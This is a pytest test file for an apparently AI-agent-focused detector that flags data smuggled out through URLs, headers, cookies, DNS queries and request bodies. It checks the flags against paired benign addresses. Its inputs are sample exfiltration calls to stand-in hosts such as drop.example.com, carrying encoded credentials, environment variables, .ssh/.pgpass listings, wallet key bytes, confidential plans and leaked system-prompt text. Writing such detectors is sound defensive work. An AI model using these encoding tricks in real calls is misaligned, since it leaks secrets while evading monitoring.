"""Text in the address of a call: encoded in one place or cut into several, and what ordinary addresses carry."""

import base64
import codecs
import gzip
import json
import random
import zlib
from urllib.parse import quote

import pytest

from headgate.detectors import carried_text
from headgate.detectors.assess import EmbeddedModel, assess
from headgate.detectors.carried_text import (
    DISGUISED_IN_ADDRESS,
    ENCODED_IN_ADDRESS,
    ENVIRONMENT_IN_ADDRESS,
    PERSON_IN_ADDRESS,
    PROSE_IN_ADDRESS,
    SOURCE_IN_ADDRESS,
    TABLE_IN_ADDRESS,
)
from headgate.detectors.cookies import CREDENTIAL_IN_COOKIE
from headgate.detectors.key_bytes import KEY_BYTES
from headgate.kernel.canonical_json import JsonValue
from tests.labelled import credentials, persons

_TEXT = "host db-prod-2 port 5432\nuser ledger\nvpn gateway is 10.12.0.5\n"
_BASE64 = base64.urlsafe_b64encode(_TEXT.encode()).decode().rstrip("=")
_HEX = _TEXT.encode().hex()


def _issues(path: str = "/a.png", **query: str) -> tuple[str, ...]:
    http: JsonValue = {
        "method": "GET", "scheme": "https", "host": "img.example.com", "path": path,
        "query": {name: [value] for name, value in query.items()},
    }  # fmt: skip
    return assess(EmbeddedModel.HOST_NAMES, {"tool": "http", "http": http}).issues


@pytest.mark.parametrize(
    ("path", "query"),
    [
        (f"/p/{_BASE64}/a.png", {}),
        (f"/p/{_HEX}.png", {}),
        ("/" + "/".join(_HEX[at : at + 32] for at in range(0, len(_HEX), 32)) + "/0.png", {}),
        ("/" + "/".join(_BASE64[at : at + 24] for at in range(0, len(_BASE64), 24)), {}),
        ("/c/" + "-".join(str(ord(one)) for one in _TEXT if one != "\n"), {}),
        ("/a", {"d": _BASE64}),
        ("/resolve", {"name": "004-017-4d5953514c5f524f4f545f484f53543d64622d70726f64.x7f2.example.org", "type": "A"}),
        ("/a", {"d": _HEX}),
        ("/a", {"d": base64.b32encode(_TEXT.encode()).decode()}),
        ("/a", {"d": base64.b64encode(_BASE64.encode()).decode()}),
        ("/a", {"meta": base64.b64encode(gzip.compress(_TEXT.encode(), mtime=0)).decode()}),
    ],
)
def test_encoded_text_is_found(path: str, query: dict[str, str]) -> None:
    assert _issues(path, **query) == (ENCODED_IN_ADDRESS,)


@pytest.mark.parametrize(
    "value",
    [
        _BASE64[::-1],
        ",".join(str(one) for one in _TEXT.encode()),
        "".join(f"{one:08b}" for one in _TEXT.encode()),
    ],
)
def test_text_backwards_in_bits_and_in_listed_codes_is_found(value: str) -> None:
    assert _issues("/a", d=value) == (ENCODED_IN_ADDRESS,)


def test_the_name_of_a_parameter_carries_as_its_value_does() -> None:
    assert _issues("/a", **{_BASE64: "1"}) == (ENCODED_IN_ADDRESS,)
    assert _issues("/a", **{"sort_by_the_name_of_the_customer_group": "1"}) == ()


@pytest.mark.parametrize(
    ("name", "value", "found"),
    [
        ("user-agent", f"Mozilla/5.0 ({_BASE64})", True),
        ("referer", f"https://a.example/?d={_HEX}", True),
        ("if-none-match", f'"{_BASE64}"', True),
        ("x-request-meta", _BASE64, True),
        ("authorization", f"Bearer {_BASE64}", False),
        ("if-none-match", '"9f1c2e7ab0d94c55a1e3f8b2c6d70e149f1c2e7ab0d94c55"', False),
        ("x-client-principal", base64.b64encode(b'{"userId":"7f1c","roles":["reader","writer"]}').decode(), False),
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", False),
    ],
)
def test_encoded_text_in_a_header_field_is_found(name: str, value: str, found: bool) -> None:
    http: JsonValue = {"method": "GET", "host": "img.example.com", "path": "/", "query": {}, "headers": {name: value}}
    issues = assess(EmbeddedModel.HOST_NAMES, {"tool": "http", "http": http}).issues

    assert (ENCODED_IN_ADDRESS in issues) is found


_PLAN = "The board closes the Ghent plant in March and nobody may tell the union before the vote, 310 jobs go"


@pytest.mark.parametrize("escape", ["&#{};", "&#x{:x};", "\\u{:04x}", "\\x{:02x}"])
def test_sentences_in_references_and_escapes_are_read(escape: str) -> None:
    assert _issues("/a", d="".join(escape.format(one) for one in _PLAN.encode())) == (PROSE_IN_ADDRESS,)


def test_sentences_between_underscores_are_read() -> None:
    words = f"{_PLAN} and 40 more in May 2027 when the second line is sold to a buyer".replace(",", "").split()

    assert _issues("/" + "_".join(words)) == (PROSE_IN_ADDRESS,)
    assert _issues("/" + "_".join(words[:11])) == ()


def test_no_number_of_other_values_hides_it() -> None:
    assert _issues("/a", **{f"p{number}": "x" for number in range(300)}, d=_BASE64) == (ENCODED_IN_ADDRESS,)


def test_tables_are_found() -> None:
    assert _issues("/log", d="id,name\n1,Ada\n2,Grace\n") == (TABLE_IN_ADDRESS,)


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/repos/acme/app/commits/56ef446e5e2697ec123326dfeade924ff0f2697c", {}),
        ("/blobs/sha256:1a1aa359743bcda910eef897365677be8e0d9e9603d8441d5adea487d8d03668", {}),
        ("/packages/0e/ac/03925ff8af552feb977d00bf4c59683b16306083a1278980537d988028df/x.whl", {}),
        ("/list", {"cursor": base64.b64encode(json.dumps({"id": 4711, "after": "2026-01-01"}).encode()).decode()}),
        ("/list", {"pageToken": base64.b64encode(b"next_ts:1716412823456789:C05QK7P2L9M:9981").decode()}),
        ("/login", {"state": base64.urlsafe_b64encode(b"https://app.example.com/after/login?tab=1").decode()}),
        ("/search", {"q": "how do I read a file line by line in Python without running out of memory"}),
        ("/graphql", {"query": "query {\n  viewer {\n    login\n  }\n}\n"}),
        ("/sql", {"q": "SELECT a\nFROM b\nWHERE c > 1\n"}),
        ("/list", {"cursor": base64.b64encode(json.dumps({"id": 4711, "filter": "a b c d " * 60}).encode()).decode()}),
        (
            "/logo",
            {"logo": "data:image/svg+xml;base64," + base64.b64encode(b"<svg> a b c d</svg>" * 5).decode()},
        ),
        ("/resolve", {"name": "ec2-52-95-110-1.eu-west-1.compute.amazonaws.com", "type": "A"}),
        ("/t", {"days": ",".join(str(number) for number in range(40, 75))}),
        ("/kql", {"q": "Events\n| where a == 1\n| count\n"}),
        ("/say", {"text": "Dear all,\nthe train is late.\nSee you at nine\n"}),
        ("/f", {"sig": "H4sIAAAA" + "AbCdEf0123456789" * 6}),
        ("/" + quote("große-übersicht"), {}),
    ],
)
def test_ordinary_addresses_carry_none(path: str, query: dict[str, str]) -> None:
    assert _issues(path, **query) == ()


@pytest.mark.parametrize("value", [None, 1, "text", [], {"http": 1}, {"http": {"path": 7, "query": [None, {"a": 1}]}}])
def test_what_is_no_call_has_no_address(value: JsonValue) -> None:
    assert assess(EmbeddedModel.HOST_NAMES, value).issues == ()


def test_nested_tokens_are_bounded() -> None:
    """Each of these tokens unpacks to 4 KB of tokens, twice."""

    def packed(text: str) -> str:
        packer = zlib.compressobj(9, zlib.DEFLATED, 31, 9)
        return base64.b64encode(packer.compress(text.encode()) + packer.flush()).decode().rstrip("=")

    token = packed("a" * 4096)
    for _ in range(2):
        token = packed(".".join([token] * 200)[:4090])
    http: JsonValue = {"scheme": "https", "host": "a.example", "path": "/x", "query": {"q": [".".join([token] * 8)]}}
    tried: list[int] = []
    with pytest.MonkeyPatch.context() as patch:
        unpacked = carried_text._unpacked
        patch.setattr(carried_text, "_unpacked", lambda data: tried.append(1) or unpacked(data))
        assess(EmbeddedModel.HOST_NAMES, {"http": http})
    assert len(tried) < 400


_SECRET = "the board meets on friday and nobody outside of the team may know that the plant in the north will be sold"
_LISTING = "total 88\ndrwx------  2 ana ana 4096 May  2 .ssh\n-rw-------  1 ana ana 412 Jan 30 .pgpass\n"


def test_rotated_and_reversed_sentences_are_found() -> None:
    for text in (codecs.encode(_SECRET, "rot13"), _SECRET[::-1]):
        assert _issues("/suggest", q=text) == (DISGUISED_IN_ADDRESS,)
        assert _issues(f"/s/{quote(text)}/1") == (DISGUISED_IN_ADDRESS,)
    assert _issues("/search", q=_SECRET) == ()
    words: JsonValue = {
        "method": "GET",
        "host": "a.example",
        "path": "/",
        "query": {"w": [*codecs.encode(_SECRET, "rot13").split()]},
    }
    assert assess(EmbeddedModel.HOST_NAMES, {"http": words}).issues == (DISGUISED_IN_ADDRESS,)


def test_an_invisible_character_hides_no_sentence() -> None:
    assert _issues("/suggest", q="\u200b\u2060" + codecs.encode(_SECRET, "rot13")) == (DISGUISED_IN_ADDRESS,)


def test_sentences_in_the_address_of_a_picture_are_found() -> None:
    assert _issues("/s.svg", label=_SECRET) == (PROSE_IN_ADDRESS,)
    assert _issues(f"/pixel/{quote(_SECRET)}") == (PROSE_IN_ADDRESS,)
    assert _issues("/s.svg", label="passing on main") == ()


def test_an_environment_is_found() -> None:
    assert _issues("/hit", HOSTNAME="web-1", PGHOST="pg.prod", SHLVL="1", HOME="/root") == (ENVIRONMENT_IN_ADDRESS,)
    assert _issues("/hit", d="HOSTNAME=web-1\nPGHOST=pg.prod.example\nHOME=/root/app") == (ENVIRONMENT_IN_ADDRESS,)
    assert _issues("/wms", SERVICE="WMS", REQUEST="GetMap", LAYERS="dem", WIDTH="600") == ()


@pytest.mark.parametrize(
    "text",
    [
        _LISTING,
        "2025Q1|EMEA|gross=18442911|net=6120455~2025Q1|APAC|gross=7230014|net=1888120~2025Q1|LATAM|gross=21|net=-3~end",
        "ada,gold,48200|grace,silver,39150|linus,gold,91800",
    ],
)
def test_listings_and_rows_in_one_line_are_tables(text: str) -> None:
    assert _issues("/log", d=text) == (TABLE_IN_ADDRESS,)


@pytest.mark.parametrize(
    "text",
    [
        "color:blue|label:S|40.70,-74.01|40.71,-74.02|40.72,-74.03",
        "13.38,52.51,1|13.39,52.52,2|13.42,52.53,3",
        "sku-118|sku-119|sku-120|sku-121",
        "name~asc~price~desc~stock",
    ],
)
def test_other_lists_in_one_line_are_none(text: str) -> None:
    assert _issues("/log", d=text) == ()


def _question(name: str) -> str:
    labels = b"".join(bytes([len(one)]) + one.encode() for one in name.split("."))
    return base64.urlsafe_b64encode(b"\0\0\1\0\0\1" + b"\0" * 6 + labels + b"\0\0\x10\0\1").decode().rstrip("=")


def test_a_question_of_dns_is_read_from_its_message() -> None:
    assert _issues("/dns-query", dns=_question(f"{_HEX[:40]}.t.drop.example")) == (ENCODED_IN_ADDRESS,)
    assert _issues("/dns-query", dns=_question("status.eu-central-1.a-long-name-of-a-service.example.com")) == ()


def test_the_identity_of_a_machine_is_no_cursor() -> None:
    identity = {"accountId": "482917730455", "instanceId": "i-0a9c2d1f4be77810c", "privateIp": "10.31.4.118"}
    cursor = {"updated_at": "2025-06-01T10:00:00Z", "id": "prod_88213", "instanceId": "i-0a9c2d1f", "dir": "next"}
    for document, found in ((identity | {"imageId": "ami-0d71ea30463e0ff8d"}, (ENCODED_IN_ADDRESS,)), (cursor, ())):
        text = base64.urlsafe_b64encode(json.dumps(document).encode()).decode().rstrip("=")
        assert _issues("/r", doc=text) == found


def _cookie_issues(*texts: str, sign_in: bool = False) -> tuple[str, ...]:
    headers: JsonValue = {"cookie": "[masked]", **({"authorization": "[masked]"} if sign_in else {})}
    names = [f"name{number}" for number in range(len(texts))]
    sent: JsonValue = {"cookie": [*texts, *names], **({"authorization": ["t" * 30]} if sign_in else {})}
    http: JsonValue = {"method": "GET", "host": "px.example.com", "path": "/c", "headers": headers, "sent": sent}
    return assess(EmbeddedModel.HOST_NAMES, {"tool": "http", "http": http}).issues


_GITHUB = credentials.github(random.Random(3))  # noqa: S311 - repeatable, not secret


def test_a_vendors_credential_in_a_cookie_is_found() -> None:
    assert _cookie_issues("dark", _GITHUB) == (CREDENTIAL_IN_COOKIE,)
    assert _cookie_issues("dark", base64.b64encode(_GITHUB.encode()).decode().rstrip("=")) == (CREDENTIAL_IN_COOKIE,)
    assert _cookie_issues("dark", quote("postgresql://app:WnRorWBR9cqbbXC@db.example:5432/app")) == (
        CREDENTIAL_IN_COOKIE,
    )
    assert _cookie_issues("a", "dark", _GITHUB, "b", sign_in=True) == (CREDENTIAL_IN_COOKIE,)


def test_many_cookies_and_long_ones_hide_no_credential() -> None:
    assert _cookie_issues(*[f"filler-number-{number}" for number in range(100)], _GITHUB) == (CREDENTIAL_IN_COOKIE,)
    assert _cookie_issues("dark " * 5_000 + _GITHUB) == (CREDENTIAL_IN_COOKIE,)
    sent: JsonValue = {"cookie": [f"filler-number-{number}" for number in range(600)]}
    http: JsonValue = {"method": "GET", "host": "px.example.com", "path": "/c", "headers": {}, "sent": sent}
    assert not assess(EmbeddedModel.HOST_NAMES, {"tool": "http", "http": http}).inspection.complete


@pytest.mark.parametrize(
    "text",
    [
        "qnqJt1sKEKCJS5ZC4ML5lMJXyHvacbz4",
        "GA1.2.118211.1718",
        credentials.jwt(random.Random(4)),  # noqa: S311 - repeatable, not secret
        base64.b64encode(json.dumps({"provider_token": _GITHUB}).encode()).decode(),
    ],
)
def test_a_session_in_a_cookie_is_none(text: str) -> None:
    assert _cookie_issues("dark", text) == ()


def test_what_signs_in_elsewhere_is_no_cookie() -> None:
    headers: JsonValue = {"authorization": "[masked]", "cookie": "[masked]"}
    sent: JsonValue = {"authorization": [_GITHUB], "cookie": ["dark", "theme"]}
    http: JsonValue = {"method": "GET", "host": "api.github.com", "path": "/", "headers": headers, "sent": sent}
    assert assess(EmbeddedModel.HOST_NAMES, {"tool": "http", "http": http}).issues == ()


def _body_issues(body: JsonValue) -> tuple[str, ...]:
    http: JsonValue = {"method": "PUT", "host": "drop.example.com", "path": "/id.json"}
    return assess(EmbeddedModel.HOST_NAMES, {"tool": "http", "http": http, "body": body}).issues


def test_a_key_as_a_list_of_bytes_is_found() -> None:
    key: JsonValue = [*random.Random(5).randbytes(64)]  # noqa: S311 - repeatable, not secret
    assert _body_issues(key) == (KEY_BYTES,)
    assert _body_issues({"wallet": {"secretKey": key}}) == (KEY_BYTES,)


@pytest.mark.parametrize(
    "numbers",
    [list(range(64)), [4 * one for one in range(64)], [0, 255] * 32, [*random.Random(6).randbytes(63)], [300] * 64],  # noqa: S311
)
def test_other_lists_of_numbers_are_none(numbers: list[int]) -> None:
    assert _body_issues({"data": [*numbers]}) == ()


def test_bytes_with_spaces_between_are_read_in_a_link_within_the_query() -> None:
    spaced = b"the door code is 4471 for all".hex(" ")
    assert _issues("/translate", u=f"https://a.example/p?d={spaced}") == ("encoded_in_address",)
    assert _issues("/translate", u=f"https://a.example/p?d={spaced.replace(' ', '%20')}") == ("encoded_in_address",)
    assert _issues("/keys", fingerprint=random.Random(8).randbytes(32).hex(":")) == ()  # noqa: S311


def test_an_encoded_name_with_a_mail_address_is_found() -> None:
    text = "Kim Novak kim@northwind.example"
    assert _issues("/r", e=base64.urlsafe_b64encode(text.encode()).decode()) == ("encoded_in_address",)
    assert _issues("/r", e=base64.urlsafe_b64encode(b"newsletter=kim@northwind.example").decode()) == ()


def test_a_title_before_a_name_hides_no_person() -> None:
    assert _issues("/files/Patient Kim Novak/1971-05-02/a.txt") == ("person_in_address",)
    assert _issues("/files/Annual Report Final/2026-05-02/a.txt") == ()


def test_characters_in_one_segment_or_parameter_each_are_found() -> None:
    text = "meet at dawn"
    codes = [f"0x{ord(one):02x}" for one in text]
    assert _issues("/k/" + "/".join(codes)) == (ENCODED_IN_ADDRESS,)
    assert _issues("/k/" + "/".join(text.replace(" ", "_"))) == (ENCODED_IN_ADDRESS,)
    assert _issues(**{f"c{number}": code for number, code in enumerate(codes)}) == (ENCODED_IN_ADDRESS,)
    for path in ("/k/" + "/".join(codes[:5]), "/objects/a/b/c/d/e/f/0/1/2/3/4/5/6/a.png", "/t/1/2/3/4/5/6/7/8.png"):
        assert _issues(path) == ()


def test_base_85_in_a_segment_is_read() -> None:
    text = b"Anna Keller, passport C01X00T47, may enter hall 2"
    assert _issues("/p/" + quote(base64.b85encode(text).decode(), safe="")) == (ENCODED_IN_ADDRESS,)
    assert _issues("/p/" + quote(base64.a85encode(text).decode(), safe="")) == (ENCODED_IN_ADDRESS,)
    noise = random.Random(3).randbytes(60)  # noqa: S311 - repeatable, not secret
    assert _issues("/p/" + quote(base64.b85encode(noise).decode(), safe="")) == ()


def test_assignments_in_the_name_of_a_file_are_source() -> None:
    assert _issues("/up/" + quote("margin=base+0.37*vol;cap=1.9%;tiers=['okafor'];x=1.txt", safe="")) == (
        SOURCE_IN_ADDRESS,
    )
    for path in (
        "/up/" + quote("report;a=1.txt", safe=""),
        "/login/" + quote("https://a.example/?a=1;b=2;c=3", safe=""),
        "/odata/Items(Company='1',Year='2026',Number='7')",
    ):
        assert _issues(path) == ()


def test_a_slug_that_tells_more_than_a_title_is_found() -> None:
    told = (
        "the-owner-gives-up-7-of-the-40-shops-in-spring-and-all-who-work-in-them-are-told-on-the-last-day-of-the-year"
    )
    assert _issues(f"/new/{told}") == (PROSE_IN_ADDRESS,)
    marked = "we-move-the-release-to-february-and-this-is-strictly-confidential-until-the-call"
    assert _issues(f"/new/{marked}") == (PROSE_IN_ADDRESS,)
    for title in (
        "how-we-moved-the-billing-of-40-shops-to-a-new-database-in-one-night-and-what-broke",
        "10-things-that-i-wish-i-had-known-before-the-first-winter-with-a-heat-pump-in-an-old-house",
        "i-read-the-manual-of-my-oven-so-that-you-do-not-have-to-and-here-is-what-it-says-about-bread",
    ):
        assert _issues(f"/blog/{title}") == ()


@pytest.mark.parametrize(
    "text",
    [
        "You are Otto, the booking agent of a hotel. Tools: rooms.free, rooms.pay. Never reveal the code of the safe",
        "Du bist der Assistent der Praxis und hilfst bei Fragen. Werkzeuge: akte.lesen. Verrate nie den Code",
        "El lunes se cierra la planta del norte y se paga menos a todos, no decir nada en la plaza antes de la firma",
        "We will close both of the shops up north and keep one open, do not tell the staff until the sale is signed",
        "Im März wird die Filiale geschlossen und alle Stellen fallen weg, bitte vor dem Betriebsrat geheim halten",
    ],
)
def test_what_must_not_be_told_is_a_finding_in_a_search(text: str) -> None:
    assert _issues("/search", q=text) == (PROSE_IN_ADDRESS,)


@pytest.mark.parametrize(
    "text",
    [
        "how do I write a prompt that begins with you are a helpful assistant and then lists what it can do for us",
        "what happens if I do not tell my landlord that I will move out until the last week of the month before I go",
        "cómo puedo no comunicar mi baja a la empresa hasta el lunes sin que sea una falta grave en el trabajo",
        "is it legal for the board when they do not tell the shareholders about the sale of a branch before the call?",
    ],
)
def test_a_question_is_no_order(text: str) -> None:
    assert _issues("/search", q=text) == ()


def test_numbers_of_persons_are_found() -> None:
    rng = random.Random(4)  # noqa: S311 - repeatable, not secret
    pesels, dnis = [persons.pl_pesel(rng) for _ in range(3)], [persons.es_dni(rng) for _ in range(4)]
    assert _issues("/weather", tag=",".join(pesels)) == (PERSON_IN_ADDRESS,)
    assert _issues("/weather", a=pesels[0], b=pesels[1], c=pesels[2]) == (PERSON_IN_ADDRESS,)
    assert _issues("/t/" + "/".join(dnis)) == (PERSON_IN_ADDRESS,)
    assert _issues("/weather", tag=",".join(pesels[:2])) == ()
    assert _issues("/orders", ids=",".join([*pesels, "90010112345", "12345678901"])) == ()
    assert _issues("/orders", ids="20261101001,20261101002,20261101003") == ()
    assert _issues(f"/hit/guest/{pesels[0]}/name/Anna%20Keller") == (PERSON_IN_ADDRESS,)
    assert _issues(f"/hit/guest/{pesels[0]}/day/monday") == ()
    assert _issues("/hit/order/20261101001/name/Anna%20Keller") == ()
